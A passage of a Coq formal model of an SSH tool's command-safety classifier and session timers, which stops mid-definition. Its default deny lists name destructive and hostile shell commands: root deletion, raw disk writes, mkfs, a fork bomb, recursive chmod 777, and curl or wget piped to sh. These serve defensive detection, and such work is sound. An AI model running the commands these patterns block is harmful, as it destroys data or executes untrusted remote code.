(** * skill-ssh: command-safety classification and idle-detection completion

    A shallow embedding of
      - lib/command-pattern-loader.js  (class [CommandPatternLoader]) and
      - lib/interactive-session.js     (class [InteractiveSSHSession]),
    followed by the properties of the specification that concern them, and
    by further properties of the two classes, of the pattern tester of
    scripts/patterns/manage-patterns.ts and of the static helpers of class
    [SecureCredentials].

    Conventions.
      - JavaScript strings are [string]s of code units; the classifier only
        inspects ASCII, and code units above 127 are compared verbatim.
      - [undefined] is [None]; a JavaScript exception is [Throw].
      - [Date.now()], [setTimeout] and [clearTimeout] act on a virtual clock
        and a table of pending timers carried by the state ([World]).
      - Calls to [logger] have no effect on any value the program computes
        and are left out. *)

From Stdlib Require Import String Ascii List ZArith Bool Arith Lia.
Import ListNotations.
Local Open Scope string_scope.
Local Open Scope list_scope.

Set Implicit Arguments.

(* ------------------------------------------------------------------ *)
(** ** JavaScript values used by the two classes *)

(** Exceptions raised by the modelled code. *)
Inductive Error : Type :=
| SyntaxError (msg : string)      (* new RegExp on an invalid expression *)
| TypeError (msg : string)        (* property access on undefined *)
| ErrorMsg (msg : string).        (* new Error(msg) *)

Inductive Exc (A : Type) : Type :=
| Ok (a : A)
| Throw (e : Error).
Arguments Ok {A} a.
Arguments Throw {A} e.

(** Truthiness of an optional boolean property ([undefined] is falsy). *)
Definition truthy (b : option bool) : bool :=
  match b with Some true => true | _ => false end.

(** [x || d] on an optional string: [undefined] and [''] are falsy. *)
Definition or_default (x : option string) (d : string) : string :=
  match x with
  | None => d
  | Some EmptyString => d
  | Some s => s
  end.

(** [String.prototype.toUpperCase] on ASCII letters. *)
Definition upper_ascii (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (97 <=? n)%nat && (n <=? 122)%nat then ascii_of_nat (n - 32) else c.

Fixpoint toUpperCase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (upper_ascii c) (toUpperCase rest)
  end.

(** [Array.prototype.slice(start)] with one argument: a negative start
    counts from the end, and both directions are clamped to the array. *)
Definition slice {A : Type} (start : Z) (l : list A) : list A :=
  let len := Z.of_nat (length l) in
  let k := if (start <? 0)%Z then Z.max (len + start) 0 else Z.min start len in
  skipn (Z.to_nat k) l.

(* ------------------------------------------------------------------ *)
(** ** Regular expressions

    A [RegExp] object is its source text and its flags.  The regular
    expression engine belongs to the platform, so the registry is written
    against an interface: whether a source text compiles, and whether a
    compiled expression finds a match in a subject. *)

Record RegExp : Type := mkRegExp {
  source : string;
  flags : string
}.

Class RegExpEngine : Type := {
  (* [new RegExp(src, flags)] does not throw (flags being '' or 'i') *)
  regexp_valid : string -> bool;
  (* [RegExp.prototype.test]: source, ignoreCase, subject *)
  regexp_exec : string -> bool -> string -> bool
}.

Fixpoint has_flag (f : ascii) (fl : string) : bool :=
  match fl with
  | EmptyString => false
  | String c rest => Ascii.eqb c f || has_flag f rest
  end.

Definition ignoreCase (r : RegExp) : bool := has_flag "i"%char (flags r).

Definition RegExp_new `{RegExpEngine} (pattern flags : string) : Exc RegExp :=
  if regexp_valid pattern
  then Ok (mkRegExp pattern flags)
  else Throw (SyntaxError ("Invalid regular expression: /" ++ pattern ++ "/")).

Definition test `{RegExpEngine} (r : RegExp) (subject : string) : bool :=
  regexp_exec (source r) (ignoreCase r) subject.

(* ------------------------------------------------------------------ *)
(** ** command-pattern-loader.js: data *)

(** One entry of the configuration document. *)
Record PatternConfig : Type := mkPatternConfig {
  cfg_name : string;
  cfg_pattern : string;
  cfg_description : string;
  cfg_severity : option string;
  cfg_enabled : bool;
  cfg_examples : option (list string)
}.

(** A compiled pattern, as pushed by [compilePatterns] and [addPattern]. *)
Record CompiledPattern : Type := mkCompiledPattern {
  name : string;
  regex : RegExp;
  description : string;
  severity : option string;
  examples : list string
}.

Record Settings : Type := mkSettings {
  block_dangerous_by_default : option bool;
  warn_on_suspicious : option bool;
  log_blocked_commands : option bool;
  case_sensitive : option bool;
  allow_whitelist_override : option bool
}.

(** [{}] *)
Definition empty_settings : Settings := mkSettings None None None None None.

Record CustomPatterns : Type := mkCustomPatterns {
  custom_dangerous : option (list PatternConfig);
  custom_suspicious : option (list PatternConfig);
  custom_whitelisted : option (list PatternConfig)
}.

(** The parsed configuration document.  A category is [None] when reading
    [doc.<category>.patterns] and spreading it throws (the category or its
    list is absent). *)
Record ConfigDoc : Type := mkConfigDoc {
  dangerous_patterns : option (list PatternConfig);
  suspicious_patterns : option (list PatternConfig);
  whitelisted_patterns : option (list PatternConfig);
  custom_patterns : option CustomPatterns;
  doc_settings : option Settings
}.

(** What [load] finds at [configPath]. *)
Inductive ConfigFile : Type :=
| FileMissing                     (* fs.existsSync is false *)
| FileUnparseable                 (* readFileSync or JSON.parse throws *)
| FileParsed (doc : ConfigDoc).

(** The fields of a [CommandPatternLoader] instance ([configPath] only
    selects the [ConfigFile] handed to [load]). *)
Record CommandPatternLoader : Type := mkLoader {
  patterns : option ConfigDoc;
  dangerousPatterns : list CompiledPattern;
  suspiciousPatterns : list CompiledPattern;
  whitelistedPatterns : list CompiledPattern;
  settings : Settings
}.

(** [constructor] *)
Definition new_loader : CommandPatternLoader :=
  mkLoader None [] [] [] empty_settings.

Definition set_patterns (d : option ConfigDoc) (L : CommandPatternLoader) :=
  mkLoader d (dangerousPatterns L) (suspiciousPatterns L)
           (whitelistedPatterns L) (settings L).
Definition set_dangerousPatterns (l : list CompiledPattern) (L : CommandPatternLoader) :=
  mkLoader (patterns L) l (suspiciousPatterns L) (whitelistedPatterns L) (settings L).
Definition set_suspiciousPatterns (l : list CompiledPattern) (L : CommandPatternLoader) :=
  mkLoader (patterns L) (dangerousPatterns L) l (whitelistedPatterns L) (settings L).
Definition set_whitelistedPatterns (l : list CompiledPattern) (L : CommandPatternLoader) :=
  mkLoader (patterns L) (dangerousPatterns L) (suspiciousPatterns L) l (settings L).
Definition set_settings (s : Settings) (L : CommandPatternLoader) :=
  mkLoader (patterns L) (dangerousPatterns L) (suspiciousPatterns L)
           (whitelistedPatterns L) s.

(** [x || []] *)
Definition or_nil {A : Type} (x : option (list A)) : list A :=
  match x with Some l => l | None => [] end.

(* ------------------------------------------------------------------ *)
(** ** command-pattern-loader.js: operations *)

Section Registry.
Context {engine : RegExpEngine}.

(** [const flags = this.settings.case_sensitive ? '' : 'i'] *)
Definition compile_flags (L : CommandPatternLoader) : string :=
  if truthy (case_sensitive (settings L)) then "" else "i".

(** The body of the [for] loop of [compilePatterns], for one entry. *)
Definition compile_entry (L : CommandPatternLoader) (compiled : list CompiledPattern)
  (pattern : PatternConfig) : list CompiledPattern :=
  if negb (cfg_enabled pattern) then compiled
  else
    match RegExp_new (cfg_pattern pattern) (compile_flags L) with
    | Ok re =>
        compiled ++ [mkCompiledPattern (cfg_name pattern) re
                       (cfg_description pattern) (cfg_severity pattern)
                       (or_nil (cfg_examples pattern))]
    | Throw _ => compiled          (* logger.warn, entry skipped *)
    end.

Definition compilePatterns (L : CommandPatternLoader)
  (defaultPatterns customPatterns : list PatternConfig) : list CompiledPattern :=
  let allPatterns := defaultPatterns ++ customPatterns in
  fold_left (compile_entry L) allPatterns [].

(** A regular-expression literal [/body/]. *)
Definition literal (body : string) : RegExp := mkRegExp body "".

Definition default_dangerous : list CompiledPattern :=
  [ mkCompiledPattern "delete_root_filesystem" (literal "^rm\s+-rf\s+\/$")
      "Delete root filesystem" (Some "critical") [];
    mkCompiledPattern "disk_write_operations" (literal "^dd\s+if=.*of=\/dev\/sd")
      "Direct disk write operations" (Some "critical") [];
    mkCompiledPattern "format_filesystem" (literal "^mkfs")
      "Format filesystem commands" (Some "critical") [];
    mkCompiledPattern "fork_bomb" (literal "^:(){ :|:& };:")
      "Fork bomb" (Some "critical") [];
    mkCompiledPattern "chmod_777_root" (literal "^chmod\s+-R\s+777\s+\/")
      "Recursive chmod 777 on root" (Some "critical") [];
    mkCompiledPattern "curl_pipe_to_shell" (literal "^curl.*\|\s*sh")
      "Download and execute via curl" (Some "high") [];
    mkCompiledPattern "wget_pipe_to_shell" (literal "^wget.*\|\s*sh")
      "Download and execute via wget" (Some "high") [] ].

Definition default_suspicious : list CompiledPattern :=
  [ mkCompiledPattern "sudo_with_rm" (literal "sudo\s+rm")
      "Using sudo with rm" (Some "medium") [];
    mkCompiledPattern "chmod_777" (literal "chmod\s+777")
      "World-writable permissions" (Some "medium") [];
    mkCompiledPattern "redirect_to_dev_null" (literal ">\s*\/dev\/null\s+2>&1")
      "Hiding command output" (Some "low") [];
    mkCompiledPattern "base64_decode" (literal "base64.*decode")
      "Base64 decoding" (Some "low") [] ].

Definition default_settings : Settings :=
  mkSettings (Some true) (Some true) (Some true) (Some false) (Some true).

Definition loadDefaults (L : CommandPatternLoader) : CommandPatternLoader :=
  mkLoader (patterns L) default_dangerous default_suspicious [] default_settings.

(** [doc.custom_patterns?.<category> || []] *)
Definition custom_of (doc : ConfigDoc)
  (sel : CustomPatterns -> option (list PatternConfig)) : list PatternConfig :=
  match custom_patterns doc with
  | Some c => or_nil (sel c)
  | None => []
  end.

Definition missing_category : Error :=
  TypeError "Cannot read properties of undefined (reading 'patterns')".

(** The statements of [load] between [JSON.parse] and the end of the [try]
    block: the state reached, and whether one of them threw. *)
Definition load_document (doc : ConfigDoc) (L : CommandPatternLoader)
  : CommandPatternLoader * Exc unit :=
  let L0 := set_patterns (Some doc) L in
  match dangerous_patterns doc with
  | None => (L0, Throw missing_category)
  | Some d =>
    let L1 := set_dangerousPatterns
                (compilePatterns L0 d (custom_of doc custom_dangerous)) L0 in
    match suspicious_patterns doc with
    | None => (L1, Throw missing_category)
    | Some s =>
      let L2 := set_suspiciousPatterns
                  (compilePatterns L1 s (custom_of doc custom_suspicious)) L1 in
      match whitelisted_patterns doc with
      | None => (L2, Throw missing_category)
      | Some w =>
        let L3 := set_whitelistedPatterns
                    (compilePatterns L2 w (custom_of doc custom_whitelisted)) L2 in
        (set_settings
           (match doc_settings doc with Some s' => s' | None => empty_settings end)
           L3,
         Ok tt)
      end
    end
  end.

Definition load (file : ConfigFile) (L : CommandPatternLoader) : CommandPatternLoader :=
  match file with
  | FileMissing => loadDefaults L
  | FileUnparseable => loadDefaults L             (* catch *)
  | FileParsed doc =>
      match load_document doc L with
      | (L', Ok _) => L'
      | (L', Throw _) => loadDefaults L'          (* catch *)
      end
  end.

(** The [for] loop of [isWhitelisted]: returns at the first match. *)
Fixpoint whitelist_scan (ps : list CompiledPattern) (command : string) : bool :=
  match ps with
  | [] => false
  | pattern :: rest =>
      if test (regex pattern) command then true else whitelist_scan rest command
  end.

Definition isWhitelisted (L : CommandPatternLoader) (command : string) : bool :=
  if negb (truthy (allow_whitelist_override (settings L))) then false
  else whitelist_scan (whitelistedPatterns L) command.

(** The [for] loop shared by [isDangerous] and [isSuspicious]: every
    pattern is tested, a match is pushed onto [matches]. *)
Fixpoint match_scan (ps : list CompiledPattern) (command : string)
  (matches : list CompiledPattern) : list CompiledPattern :=
  match ps with
  | [] => matches
  | pattern :: rest =>
      match_scan rest command
        (if test (regex pattern) command then matches ++ [pattern] else matches)
  end.

Record DangerousResult : Type := mkDangerousResult {
  dr_dangerous : bool;
  dr_matches : list CompiledPattern
}.

Record SuspiciousResult : Type := mkSuspiciousResult {
  sr_suspicious : bool;
  sr_matches : list CompiledPattern
}.

Definition isDangerous (L : CommandPatternLoader) (command : string) : DangerousResult :=
  if isWhitelisted L command then mkDangerousResult false []
  else
    let matches := match_scan (dangerousPatterns L) command [] in
    mkDangerousResult (0 <? length matches)%nat matches.

Definition isSuspicious (L : CommandPatternLoader) (command : string) : SuspiciousResult :=
  let matches := match_scan (suspiciousPatterns L) command [] in
  mkSuspiciousResult (0 <? length matches)%nat matches.

(** [addPattern(type, patternConfig)]: the new state and the boolean
    returned.  Both a [RegExp] that does not compile and the [default:]
    branch of the [switch] throw into the [catch], which returns [false]. *)
Definition addPattern (type : string) (patternConfig : PatternConfig)
  (L : CommandPatternLoader) : CommandPatternLoader * bool :=
  match RegExp_new (cfg_pattern patternConfig) (compile_flags L) with
  | Throw _ => (L, false)
  | Ok re =>
      let compiledPattern :=
        mkCompiledPattern (cfg_name patternConfig) re
          (cfg_description patternConfig)
          (Some (or_default (cfg_severity patternConfig) "medium"))
          (or_nil (cfg_examples patternConfig)) in
      if String.eqb type "dangerous" then
        (set_dangerousPatterns (dangerousPatterns L ++ [compiledPattern]) L, true)
      else if String.eqb type "suspicious" then
        (set_suspiciousPatterns (suspiciousPatterns L ++ [compiledPattern]) L, true)
      else if String.eqb type "whitelisted" then
        (set_whitelistedPatterns (whitelistedPatterns L ++ [compiledPattern]) L, true)
      else (L, false)
  end.

End Registry.

(* ------------------------------------------------------------------ *)
(** ** interactive-session.js: data *)

Record MatchedPattern : Type := mkMatchedPattern {
  mp_name : string;
  mp_description : string;
  mp_severity : string
}.

(** The object built by [analyzeCommand]. *)
Record Analysis : Type := mkAnalysis {
  a_command : string;
  safe : bool;
  dangerous : bool;
  suspicious : bool;
  whitelisted : bool;
  warnings : list string;
  blockedReason : option string;
  matched_dangerous : list MatchedPattern;      (* matchedPatterns.dangerous *)
  matched_suspicious : list MatchedPattern      (* matchedPatterns.suspicious *)
}.

(** An entry of [commandHistory]. *)
Record CommandRecord : Type := mkCommandRecord {
  rec_command : string;
  rec_timestamp : Z;
  rec_analysis : Analysis;
  executed : bool
}.

Inductive StreamType : Type := stdout | stderr.

(** An entry of [outputBuffer]. *)
Record OutputChunk : Type := mkOutputChunk {
  chunk_type : StreamType;
  chunk_data : string;
  chunk_timestamp : Z
}.

(** The [options] argument of [executeCommand]. *)
Record Options : Type := mkOptions {
  bypassSafety : option bool;
  streaming : option bool;
  timeout : option Z
}.

Definition no_options : Options := mkOptions None None None.

(** The object resolved by [executeCommand]. *)
Record Result : Type := mkResult {
  res_command : string;
  res_output : string;
  duration : Z;
  res_analysis : Analysis
}.

(** Notifications sent through the session's [EventEmitter]. *)
Inductive Event : Type :=
| EvConnected
| EvOutput (data : string)
| EvStream (data : string)
| EvBlocked (command : string) (analysis : Analysis)
| EvWarning (command : string) (analysis : Analysis)
| EvExecuted (result : Result)
| EvClose (code : Z).

(** The local variables of one call of the promise executor in
    [executeCommand]; [outputHandler] and [completeCommand] close over them. *)
Record Closure : Type := mkClosure {
  cl_command : string;
  cl_options : Options;
  cl_analysis : Analysis;
  output : string;
  startTime : Z;
  commandCompleted : bool;
  idleTimer : option nat          (* null, or the handle of the last idle timer *)
}.

(** The two callbacks handed to [setTimeout], for the closure [cid]. *)
Inductive Callback : Type :=
| IdleCb (cid : nat)
| MaxCb (cid : nat).

Record Timer : Type := mkTimer {
  timer_id : nat;
  due : Z;
  callback : Callback
}.

(** The session object. *)
Record Session : Type := mkSession {
  connected : bool;
  commandHistory : list CommandRecord;
  outputBuffer : list OutputChunk;
  blockDangerousCommands : bool;
  requireConfirmation : bool
}.

(** [constructor] *)
Definition new_session : Session := mkSession false [] [] true true.

(** The session together with what it acts on: the module-level
    [patternLoader], the clock, the child process's stdin, the listeners of
    the ['output'] event, the pending timers and the settled promises. *)
Record World : Type := mkWorld {
  now : Z;
  patternLoader : CommandPatternLoader;
  session : Session;
  stdin : list string;                 (* sshProcess.stdin.write, oldest first *)
  output_listeners : list nat;         (* closures whose outputHandler is attached *)
  emitted : list Event;                (* oldest first *)
  closures : list Closure;             (* indexed by closure identifier *)
  timers : list Timer;                 (* pending, in creation order *)
  next_timer : nat;
  resolved : list (nat * Result)       (* resolve(result), by closure *)
}.

Definition new_world (L : CommandPatternLoader) : World :=
  mkWorld 0 L new_session [] [] [] [] [] 0 [].

Definition set_now (t : Z) (w : World) : World :=
  mkWorld t (patternLoader w) (session w) (stdin w) (output_listeners w)
          (emitted w) (closures w) (timers w) (next_timer w) (resolved w).
Definition set_session (s : Session) (w : World) : World :=
  mkWorld (now w) (patternLoader w) s (stdin w) (output_listeners w)
          (emitted w) (closures w) (timers w) (next_timer w) (resolved w).
Definition set_stdin (l : list string) (w : World) : World :=
  mkWorld (now w) (patternLoader w) (session w) l (output_listeners w)
          (emitted w) (closures w) (timers w) (next_timer w) (resolved w).
Definition set_output_listeners (l : list nat) (w : World) : World :=
  mkWorld (now w) (patternLoader w) (session w) (stdin w) l
          (emitted w) (closures w) (timers w) (next_timer w) (resolved w).
Definition set_emitted (l : list Event) (w : World) : World :=
  mkWorld (now w) (patternLoader w) (session w) (stdin w) (output_listeners w)
          l (closures w) (timers w) (next_timer w) (resolved w).
Definition set_closures (l : list Closure) (w : World) : World :=
  mkWorld (now w) (patternLoader w) (session w) (stdin w) (output_listeners w)
          (emitted w) l (timers w) (next_timer w) (resolved w).
Definition set_timers (l : list Timer) (n : nat) (w : World) : World :=
  mkWorld (now w) (patternLoader w) (session w) (stdin w) (output_listeners w)
          (emitted w) (closures w) l n (resolved w).
Definition set_resolved (l : list (nat * Result)) (w : World) : World :=
  mkWorld (now w) (patternLoader w) (session w) (stdin w) (output_listeners w)
          (emitted w) (closures w) (timers w) (next_timer w) l.

Definition set_connected (b : bool) (s : Session) : Session :=
  mkSession b (commandHistory s) (outputBuffer s)
            (blockDangerousCommands s) (requireConfirmation s).
Definition set_commandHistory (l : list CommandRecord) (s : Session) : Session :=
  mkSession (connected s) l (outputBuffer s)
            (blockDangerousCommands s) (requireConfirmation s).
Definition set_outputBuffer (l : list OutputChunk) (s : Session) : Session :=
  mkSession (connected s) (commandHistory s) l
            (blockDangerousCommands s) (requireConfirmation s).

(** [this.emit(...)], as seen by the session's observers. *)
Definition emit (e : Event) (w : World) : World :=
  set_emitted (emitted w ++ [e]) w.

(** Replace the element at index [i]; out of range, the list is unchanged. *)
Fixpoint update_nth {A : Type} (i : nat) (f : A -> A) (l : list A) : list A :=
  match l, i with
  | [], _ => []
  | x :: rest, O => f x :: rest
  | x :: rest, S i' => x :: update_nth i' f rest
  end.

Definition update_closure (cid : nat) (f : Closure -> Closure) (w : World) : World :=
  set_closures (update_nth cid f (closures w)) w.

Definition set_output (o : string) (c : Closure) : Closure :=
  mkClosure (cl_command c) (cl_options c) (cl_analysis c) o (startTime c)
            (commandCompleted c) (idleTimer c).
Definition set_commandCompleted (b : bool) (c : Closure) : Closure :=
  mkClosure (cl_command c) (cl_options c) (cl_analysis c) (output c) (startTime c)
            b (idleTimer c).
Definition set_idleTimer (t : option nat) (c : Closure) : Closure :=
  mkClosure (cl_command c) (cl_options c) (cl_analysis c) (output c) (startTime c)
            (commandCompleted c) t.

(* ------------------------------------------------------------------ *)
(** ** Timers *)

(** Node replaces a delay outside [1, 2^31 - 1] by 1 ms. *)
Definition timer_delay (d : Z) : Z :=
  if ((1 <=? d) && (d <=? 2147483647))%Z then d else 1%Z.

(** [setTimeout(cb, delay)]: the new state and the handle. *)
Definition setTimeout (cb : Callback) (delay : Z) (w : World) : World * nat :=
  let id := next_timer w in
  (set_timers (timers w ++ [mkTimer id (now w + timer_delay delay) cb]) (S id) w, id).

(** [clearTimeout(handle)]; clearing a timer that already ran does nothing. *)
Definition clearTimeout (id : nat) (w : World) : World :=
  set_timers (filter (fun t => negb (Nat.eqb (timer_id t) id)) (timers w))
             (next_timer w) w.

(** [removeListener('output', outputHandler)] drops the most recently added
    registration of that handler. *)
Fixpoint remove_first (cid : nat) (l : list nat) : list nat :=
  match l with
  | [] => []
  | x :: rest => if Nat.eqb x cid then rest else x :: remove_first cid rest
  end.

Definition removeListener (cid : nat) (w : World) : World :=
  set_output_listeners (rev (remove_first cid (rev (output_listeners w)))) w.

(* ------------------------------------------------------------------ *)
(** ** interactive-session.js: operations *)

Definition newline : string := String (ascii_of_nat 10) EmptyString.

(** [`[${pattern.severity.toUpperCase()}] ${pattern.description}`] *)
Definition warning_line (sev desc : string) : string :=
  "[" ++ toUpperCase sev ++ "] " ++ desc.

(** The callback of [matches.forEach] in [analyzeCommand], run over the
    matches: one warning and one matched-pattern entry per match.  Reading
    [toUpperCase] of an undefined severity throws. *)
Fixpoint push_matches (ms : list CompiledPattern) (ws : list string)
  (mps : list MatchedPattern) : Exc (list string * list MatchedPattern) :=
  match ms with
  | [] => Ok (ws, mps)
  | pattern :: rest =>
      match severity pattern with
      | None =>
          Throw (TypeError "Cannot read properties of undefined (reading 'toUpperCase')")
      | Some sev =>
          push_matches rest
            (ws ++ [warning_line sev (description pattern)])
            (mps ++ [mkMatchedPattern (name pattern) (description pattern) sev])
      end
  end.

Definition destructive : string := "Potentially destructive command detected".

(** [`${x}`] of a nullable string *)
Definition template_text (x : option string) : string :=
  match x with Some s => s | None => "null" end.

Inductive Outcome : Type :=
| Rejected (e : Error)            (* the promise of the async function rejects *)
| Pending (cid : nat).            (* the promise waits for completeCommand of [cid] *)

(** [options.timeout || 30000] *)
Definition ceiling (options : Options) : Z :=
  match timeout options with
  | Some t => if (t =? 0)%Z then 30000%Z else t
  | None => 30000%Z
  end.

Section SessionOps.
Context {engine : RegExpEngine}.

Definition analyzeCommand (L : CommandPatternLoader) (command : string) : Exc Analysis :=
  (* getPatternMatches *)
  let m_dangerous := isDangerous L command in
  let m_suspicious := isSuspicious L command in
  let m_whitelisted := isWhitelisted L command in
  let analysis := mkAnalysis command true false false m_whitelisted [] None [] [] in
  (* Check for dangerous commands *)
  match
    (if dr_dangerous m_dangerous && negb m_whitelisted then
       match push_matches (dr_matches m_dangerous) (warnings analysis) [] with
       | Ok (ws, mps) =>
           Ok (mkAnalysis command false true false m_whitelisted ws
                 (Some destructive) mps [])
       | Throw e => Throw e
       end
     else Ok analysis)
  with
  | Throw e => Throw e
  | Ok a1 =>
      (* Check for suspicious commands *)
      if sr_suspicious m_suspicious then
        match push_matches (sr_matches m_suspicious) (warnings a1) [] with
        | Ok (ws, mps) =>
            Ok (mkAnalysis command (safe a1) (dangerous a1) true (whitelisted a1)
                  ws (blockedReason a1) (matched_dangerous a1) mps)
        | Throw e => Throw e
        end
      else Ok a1
  end.

(** [executeCommand(command, options)] up to the point where the async
    function returns its promise: the state after the synchronous part, and
    whether the promise is already rejected or waits for completion. *)
Definition executeCommand (command : string) (options : Options) (w : World)
  : World * Outcome :=
  if negb (connected (session w)) then
    (w, Rejected (ErrorMsg "SSH session not connected"))
  else
    match analyzeCommand (patternLoader w) command with
    | Throw e => (w, Rejected e)
    | Ok analysis =>
        if dangerous analysis && blockDangerousCommands (session w)
           && negb (truthy (bypassSafety options))
        then
          (emit (EvBlocked command analysis) w,
           Rejected (ErrorMsg ("Command blocked: " ++ template_text (blockedReason analysis))%string))
        else
          let w1 := if suspicious analysis
                    then emit (EvWarning command analysis) w else w in
          (* Log command *)
          let w2 := set_session
                      (set_commandHistory
                         (commandHistory (session w1)
                            ++ [mkCommandRecord command (now w1) analysis true])
                         (session w1)) w1 in
          (* new Promise(...) *)
          let cid := length (closures w2) in
          let w3 := set_closures
                      (closures w2
                         ++ [mkClosure command options analysis "" (now w2) false None])
                      w2 in
          (* this.on('output', outputHandler) *)
          let w4 := set_output_listeners (output_listeners w3 ++ [cid]) w3 in
          (* this.sshProcess.stdin.write(command + '\n') *)
          let w5 := set_stdin (stdin w4 ++ [(command ++ newline)%string]) w4 in
          (* const maxTimeout = setTimeout(...) *)
          let w6 := fst (setTimeout (MaxCb cid) (ceiling options) w5) in
          (w6, Pending cid)
    end.

End SessionOps.

(** [completeCommand] of the closure [cid]. *)
Definition completeCommand (cid : nat) (w : World) : World :=
  match nth_error (closures w) cid with
  | None => w
  | Some c0 =>
      if commandCompleted c0 then w
      else
        let w1 := update_closure cid (set_commandCompleted true) w in
        let w2 := match idleTimer c0 with
                  | Some id => clearTimeout id w1
                  | None => w1
                  end in
        let w3 := removeListener cid w2 in
        let result := mkResult (cl_command c0) (output c0)
                               (now w3 - startTime c0) (cl_analysis c0) in
        let w4 := emit (EvExecuted result) w3 in
        set_resolved (resolved w4 ++ [(cid, result)]) w4
  end.

(** [outputHandler(data)] of the closure [cid]. *)
Definition outputHandler (cid : nat) (data : string) (w : World) : World :=
  match nth_error (closures w) cid with
  | None => w
  | Some c0 =>
      let w1 := update_closure cid (fun c => set_output (output c ++ data)%string c) w in
      let w2 := if truthy (streaming (cl_options c0))
                then emit (EvStream data) w1 else w1 in
      let w3 := match idleTimer c0 with
                | Some id => clearTimeout id w2
                | None => w2
                end in
      let (w4, id) := setTimeout (IdleCb cid) 500 w3 in
      update_closure cid (set_idleTimer (Some id)) w4
  end.

(** The arrow functions handed to the two [setTimeout] calls:
    [if (!commandCompleted) completeCommand()]. *)
Definition run_callback (cb : Callback) (w : World) : World :=
  match cb with
  | IdleCb cid | MaxCb cid =>
      match nth_error (closures w) cid with
      | Some c => if negb (commandCompleted c) then completeCommand cid w else w
      | None => w
      end
  end.

(** The handlers installed by [connect] on the child process. *)
Definition on_stdout (data : string) (w : World) : World :=
  let w1 := set_session
              (set_outputBuffer
                 (outputBuffer (session w) ++ [mkOutputChunk stdout data (now w)])
                 (session w)) w in
  (* this.emit('output', output): the handlers attached when the event is
     emitted run in registration order *)
  fold_left (fun w' cid => outputHandler cid data w')
            (output_listeners w1) (emit (EvOutput data) w1).

Definition on_stderr (data : string) (w : World) : World :=
  set_session
    (set_outputBuffer
       (outputBuffer (session w) ++ [mkOutputChunk stderr data (now w)])
       (session w)) w.

Definition on_close (code : Z) (w : World) : World :=
  emit (EvClose code) (set_session (set_connected false (session w)) w).

(** [connect] seeing a prompt: the body of [checkConnection] and
    [checkConnectionStderr], [this.connected = true; this.emit('connected')].
    The source runs it from the 'data' handlers of the child's streams, on
    a chunk that holds a prompt or a login marker while these two
    listeners are attached; here it is an event of its own ([Ready]),
    which in a run of the program follows the event of that chunk. *)
Definition on_ready (w : World) : World :=
  emit EvConnected (set_session (set_connected true (session w)) w).

(** [getHistory(limit = 50)] and [getOutput(limit = 100)] *)
Definition getHistory (limit : option Z) (s : Session) : list CommandRecord :=
  slice (- (match limit with Some l => l | None => 50 end))%Z (commandHistory s).

Definition getOutput (limit : option Z) (s : Session) : list OutputChunk :=
  slice (- (match limit with Some l => l | None => 100 end))%Z (outputBuffer s).

(* ------------------------------------------------------------------ *)
(** ** The event loop

    What can happen to a session, one event at a time.  A timer may run
    once the clock has reached its due time; which of several due timers
    runs first is left open. *)

Inductive Action : Type :=
| Ready                       (* checkConnection finds a marker in a chunk *)
| Execute (command : string) (options : Options)
| StdoutData (data : string)
| StderrData (data : string)
| ProcessClose (code : Z)
| Elapse (ms : Z)
| TimerFires (id : nat).

Definition find_timer (id : nat) (w : World) : option Timer :=
  find (fun t => Nat.eqb (timer_id t) id) (timers w).

(** Running a timer removes it from the pending timers, then calls it. *)
Definition fire (t : Timer) (w : World) : World :=
  run_callback (callback t) (clearTimeout (timer_id t) w).

Section Loop.
Context {engine : RegExpEngine}.

Definition step (w : World) (a : Action) : World :=
  match a with
  | Ready => on_ready w
  | Execute command options => fst (executeCommand command options w)
  | StdoutData data => on_stdout data w
  | StderrData data => on_stderr data w
  | ProcessClose code => on_close code w
  | Elapse ms => if (0 <=? ms)%Z then set_now (now w + ms) w else w
  | TimerFires id =>
      match find_timer id w with
      | Some t => if (due t <=? now w)%Z then fire t w else w
      | None => w
      end
  end.

Definition run (trace : list Action) (w : World) : World :=
  fold_left step trace w.

End Loop.

(** With no other event arriving, the timers run in the order of their due
    times (the older timer first among equals), the clock standing at the
    due time of the timer that runs. *)
Fixpoint earliest (ts : list Timer) : option Timer :=
  match ts with
  | [] => None
  | t :: rest =>
      match earliest rest with
      | Some t' => if (due t' <? due t)%Z then Some t' else Some t
      | None => Some t
      end
  end.

Fixpoint run_timers (fuel : nat) (until : Z) (w : World) : World :=
  match fuel with
  | O => set_now (Z.max (now w) until) w
  | S fuel' =>
      match earliest (timers w) with
      | Some t =>
          if (due t <=? until)%Z
          then run_timers fuel' until (fire t (set_now (Z.max (now w) (due t)) w))
          else set_now (Z.max (now w) until) w
      | None => set_now (Z.max (now w) until) w
      end
  end.

(** Let the clock reach [until]; no callback creates a timer, so the number
    of pending timers bounds the number of timers that run. *)
Definition advance (until : Z) (w : World) : World :=
  run_timers (length (timers w)) until w.

(* ------------------------------------------------------------------ *)
(** ** A reference regular-expression engine

    An executable engine for the fragment of ECMAScript regular expressions
    (without the [u] flag, with the web-compatibility grammar) that the
    registry's patterns are written in: alternation, groups, lookahead,
    the quantifiers, character classes and escapes, [^], [$], [\b].
    Back-references, look-behind and named groups are outside the fragment
    and reported as not compiling.  Only [test] is needed, so a match is a
    yes or a no and greedy and lazy quantifiers coincide. *)

Module JsRegExp.

Inductive ClassItem : Type :=
| CChar (c : ascii)
| CRange (lo hi : ascii)
| CDigit (neg : bool)             (* \d \D *)
| CWord (neg : bool)              (* \w \W *)
| CSpace (neg : bool).            (* \s \S *)

Inductive regexp : Type :=
| REmpty
| RChar (c : ascii)
| RAny                                          (* . *)
| RClass (invert : bool) (items : list ClassItem)
| RBol                                          (* ^ *)
| REol                                          (* $ *)
| RWordB (neg : bool)                           (* \b \B *)
| RLook (neg : bool) (r : regexp)               (* (?=r) (?!r) *)
| RSeq (r1 r2 : regexp)
| RAlt (r1 r2 : regexp)
| RRep (r : regexp) (min : nat) (max : option nat).

Definition code (c : ascii) : nat := nat_of_ascii c.

Definition in_range (lo hi n : nat) : bool := (lo <=? n)%nat && (n <=? hi)%nat.

Definition is_digit (c : ascii) : bool := in_range 48 57 (code c).

Definition is_word (c : ascii) : bool :=
  in_range 48 57 (code c) || in_range 65 90 (code c)
  || in_range 97 122 (code c) || Nat.eqb (code c) 95.

Definition is_space (c : ascii) : bool :=
  in_range 9 13 (code c) || Nat.eqb (code c) 32 || Nat.eqb (code c) 160.

Definition is_line_terminator (c : ascii) : bool :=
  Nat.eqb (code c) 10 || Nat.eqb (code c) 13.

Definition lower_ascii (c : ascii) : ascii :=
